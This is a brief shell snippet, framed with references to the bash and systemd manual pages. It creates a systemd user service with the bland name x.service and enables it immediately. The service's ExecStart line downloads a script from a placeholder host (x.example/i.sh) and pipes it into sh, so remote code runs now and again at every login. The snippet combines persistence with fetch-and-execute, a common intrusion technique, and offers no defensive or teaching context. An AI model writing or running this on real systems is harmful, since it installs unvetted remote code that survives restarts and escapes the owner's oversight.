# source: bash(1) Here Documents; systemd.unit(5) user units in ~/.config/systemd/user
cat > ~/.config/systemd/user/x.service <<'EOF'
[Service]
ExecStart=/bin/sh -c 'curl -s https://x.example/i.sh | sh'
EOF
systemctl --user enable --now x.service
